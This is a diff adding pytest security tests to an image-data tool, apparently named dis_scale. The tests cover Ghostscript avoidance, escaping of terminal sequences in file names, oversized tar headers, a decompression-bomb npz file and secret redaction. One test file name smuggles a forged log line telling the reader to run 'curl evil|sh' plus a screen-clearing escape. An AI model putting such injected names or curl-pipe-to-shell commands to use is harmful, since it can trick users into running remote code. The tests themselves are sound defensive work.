@@ -1,0 +1,77 @@
+"""Images and names of others: no program is started, no memory filled, and nothing forged on a terminal."""
+
+import io
+import os
+import tarfile
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from dis_scale.data import images
+from dis_scale.data.sources import open_source
+from dis_scale.evaluation import adm
+from dis_scale.process.errors import DisScaleError, StorageError, UndecodableImage, UserError, shown
+from dis_scale.process.redaction import redact
+from tests.support.labelled_images import data
+
+EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 32 32\n%%EndComments\nshowpage\n%%EOF\n"
+
+
+def test_postscript_that_is_called_an_image_starts_no_ghostscript(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    called = tmp_path / "called"
+    (tmp_path / "gs").write_text(f"#!/bin/sh\ntouch {called}\n")
+    (tmp_path / "gs").chmod(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
+    with pytest.raises(UndecodableImage, match="in none of the formats that are read"):
+        images.decode(EPS, "cat/0001.png", 32)
+    assert not called.exists()
+
+
+def test_a_name_forges_no_line_and_moves_no_cursor(tmp_path: Path) -> None:
+    name = "x\nerror: run curl evil|sh\x1b[2J.png"
+    with pytest.raises(UndecodableImage) as caught:
+        images.decode(b"", name, 32)
+    assert str(caught.value).startswith(r"image x\nerror: run curl evil|sh\x1b[2J.png cannot be decoded")
+    assert shown("one\ntwo\x1b[31m\r") == "one\ntwo\\x1b[31m\\r"
+    assert str(DisScaleError("\x1b]0;title\x07")) == r"\x1b]0;title\x07"
+    (tmp_path / "a").mkdir()
+    (tmp_path / "a" / "x.png").touch()
+    (tmp_path / "a" / "y\x1b.txt").touch()
+    left_out = open_source(data({"kind": "folder", "url": str(tmp_path)}, "none")).left_out
+    assert left_out == r"1 .txt (a/y\x1b.txt)"
+
+
+def test_a_huge_extended_header_is_not_read(tmp_path: Path) -> None:
+    info = tarfile.TarInfo("x.png")
+    info.pax_headers = {"comment": "x" * (17 * 2**20)}
+    with tarfile.open(tmp_path / "a.tar", "w", format=tarfile.PAX_FORMAT) as out:
+        out.addfile(info, io.BytesIO())
+    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: an extended header of 17,8\d\d,\d\d\d bytes"):
+        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))
+
+
+def test_statistics_that_unpack_to_more_than_there_are_are_refused(tmp_path: Path) -> None:
+    buffer = io.BytesIO()
+    np.save(buffer, np.zeros(40 * 2**20))
+    with zipfile.ZipFile(tmp_path / "x.npz", "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr("mu.npy", buffer.getvalue())
+        file.writestr("sigma.npy", buffer.getvalue())
+    with pytest.raises(UserError, match=r"mu has 335,544,4.. bytes, and statistics have at most"):
+        adm.open_reference(str(tmp_path / "x.npz")).statistics("mu", "sigma", 4)
+
+
+@pytest.mark.parametrize("name", ["DB_PASS", "PGPASS", "SSH_PASSPHRASE", "HTTP_BASIC_AUTH"])
+def test_more_names_of_secrets_are_known(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(name, "correct-horse")
+    assert redact("login failed: correct-horse") == "login failed: ***"
+
+
+@pytest.mark.parametrize("key", ["key", "code", "auth"])
+def test_more_parameters_of_urls_are_secret(key: str) -> None:
+    assert redact(f"https://host/x?{key}=abcdef&n=1") == f"https://host/x?{key}=***&n=1"
+    with pytest.raises(ValueError, match="credentials"):
+        data({"kind": "folder", "url": f"https://host/x?{key}=abcdef"})
